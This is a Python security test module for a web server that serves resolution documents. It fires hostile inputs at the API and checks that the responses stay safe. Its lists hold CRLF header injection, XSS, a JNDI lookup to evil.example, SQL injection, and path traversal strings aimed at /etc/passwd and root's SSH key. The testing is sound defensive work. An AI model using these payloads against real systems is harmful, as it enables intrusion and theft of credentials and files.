"""Values that try to become headers, log lines, paths or markup."""

from __future__ import annotations

import logging
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assistant.server.headers import SECURITY_HEADERS
from tests.server.abuse.conftest import Attacked
from tests.server.fake_assistant import FakeAssistant
from tests.server.over_sockets import eventually

HOSTILE = (
    "x\r\nset-cookie: resolution_owner=stolen",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\n2026-01-01 00:00:00 WARNING forged",
    "\u2028forged",
    "\x1b[2J\x1b[31mforged",
    "%0d%0aset-cookie:%20a=b",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{0.__class__}%s%n",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE resolutions; --",
    "\u202egpj.exe",
)
TRAVERSALS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..\\..\\etc\\passwd",
    "..%5c..%5cetc%5cpasswd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "//etc/passwd",
    "file:///etc/passwd",
    "A/RES/75/45/../../../../../etc/passwd",
    "A/RES/75/45%00.txt",
    "%c0%ae%c0%ae/etc/passwd",
    "~root/.ssh/id_rsa",
    "C:\\Windows\\win.ini",
    "\\\\evil.example\\share",
    "library.sqlite3",
)


def is_calm(response: httpx.Response) -> None:
    """Nothing of what was sent has become a header, and every response is guarded."""
    assert response.status_code < 500, response.text
    assert "stolen" not in str(response.headers)
    assert "evil" not in str(response.headers)
    for name in SECURITY_HEADERS:
        assert name in response.headers, name


@pytest.mark.parametrize("where", ["/source", "/around", "/references", "/series", ""])
@pytest.mark.parametrize("path", TRAVERSALS)
def test_no_symbol_leads_out_of_the_library(real: Attacked, path: str, where: str) -> None:
    raw = f"/api/v1/resolutions/{path.replace(' ', '%20')}{where}".encode()
    response = httpx.get(httpx.URL(real.address).copy_with(raw_path=raw))
    is_calm(response)
    assert "root:" not in response.text
    assert b"SQLite format" not in response.content
    assert response.status_code in {200, 400, 404, 422}
    if response.status_code == 200:
        assert "A/RES/75/45" in response.text or "<!doctype html>" in response.text.lower()


@pytest.mark.parametrize("path", TRAVERSALS)
def test_no_address_leads_out_of_the_pages_files(real: Attacked, path: str) -> None:
    for prefix in ("/", "/assets/", "/api/", "/resolutions/"):
        raw = f"{prefix}{path.replace(' ', '%20')}".encode()
        response = httpx.get(httpx.URL(real.address).copy_with(raw_path=raw))
        is_calm(response)
        assert "root:" not in response.text
        assert b"SQLite format" not in response.content


@pytest.mark.parametrize("name", [*TRAVERSALS, *HOSTILE, "", ".", "..", "a" * 5_000, "con", "nul"])
def test_no_files_name_leads_out_of_the_spool(
    attacked: Attacked, fake: FakeAssistant, tmp_path: Path, name: str
) -> None:
    body = (
        b'--x\r\ncontent-disposition: form-data; name="files"; filename="'
        + name.replace("\r", "").replace("\n", "").replace('"', "").encode()
        + b'"\r\n\r\ntext\r\n--x--\r\n'
    )
    headers = {**attacked.key("write"), "content-type": "multipart/form-data; boundary=x"}
    taken = len(fake.ingested)
    sent = httpx.post(f"{attacked.address}/api/v1/uploads", content=body, headers=headers)
    is_calm(sent)
    assert sent.status_code == 202
    assert eventually(lambda: len(fake.ingested) > taken)
    kept = fake.ingested[-1].name
    assert kept == Path(kept).name
    assert kept not in {"", ".", ".."}
    assert len(kept.encode()) <= 255
    assert kept.isprintable()
    assert not Path("/etc/passwd.txt").exists()


@pytest.mark.parametrize("value", HOSTILE)
def test_nothing_that_is_sent_becomes_a_header_or_a_line_of_the_log(
    attacked: Attacked, value: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    sent = quote(value, safe="")
    key = attacked.key("write")
    with httpx.Client(base_url=attacked.address, headers=key) as client:
        for method, path in (
            ("GET", f"/api/v1/resolutions/{sent}"),
            ("DELETE", f"/api/v1/resolutions/{sent}"),
            ("GET", f"/api/v1/search?q={sent}"),
            ("GET", f"/api/v1/conversations?q={sent}&cursor={sent}"),
            ("GET", f"/api/v1/conversations/{sent}"),
            ("GET", f"/api/v1/conversations/c1/export?format={sent}"),
            ("GET", f"/api/v1/answers/{sent}"),
            ("GET", f"/{sent}"),
        ):
            is_calm(client.request(method, path))
        is_calm(client.post("/api/v1/ask", json={"question": value, "conversation_id": value[:99]}))
        is_calm(client.patch("/api/v1/conversations/c1", json={"title": value}))
        is_calm(client.get("/api/v1/about", headers={"accept-language": quote(value)}))
        is_calm(client.get("/api/v1/about", headers={"cookie": f"resolution_owner={sent}"}))
    ours = [r for r in caplog.records if r.name.startswith(("assistant", "uvicorn"))]
    assert [record.getMessage() for record in ours if "forged" in record.getMessage()] == []
    for entry in attacked.access.audit.listed(limit=1_000):
        assert entry.target.isprintable()


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(min_size=1, max_size=40))
def test_whatever_stands_in_a_symbol_the_answer_is_calm(attacked: Attacked, text: str) -> None:
    sent = quote(text, safe="/", errors="surrogatepass")
    is_calm(httpx.get(f"{attacked.address}/api/v1/resolutions/{sent}"))
    is_calm(httpx.get(f"{attacked.address}/api/v1/search", params={"q": text[:40]}))


@pytest.mark.parametrize("host", ["evil.example", "evil.example:80", "x@evil.example", "[::1]", ""])
def test_a_host_that_is_not_ours_is_in_no_answer(attacked: Attacked, host: str) -> None:
    for path in ("/api/v1/uploads/", "/api/v1/about", "/", "/api/v1/nothing"):
        response = httpx.get(f"{attacked.address}{path}", headers={"host": host})
        is_calm(response)
        assert "evil" not in response.text


def test_errors_tell_nothing_of_the_program(attacked: Attacked, fake: FakeAssistant) -> None:
    fake.breaks_with = RuntimeError("secret place /srv/library, line 7")
    try:
        response = httpx.post(f"{attacked.address}/api/v1/ask", json={"question": "75/45"})
    finally:
        fake.breaks_with = None
    assert response.status_code == 500
    for told in ("secret", "/srv", "Traceback", "RuntimeError", "line 7"):
        assert told not in response.text
    assert "server" not in response.headers
    for name in SECURITY_HEADERS:
        assert name in response.headers
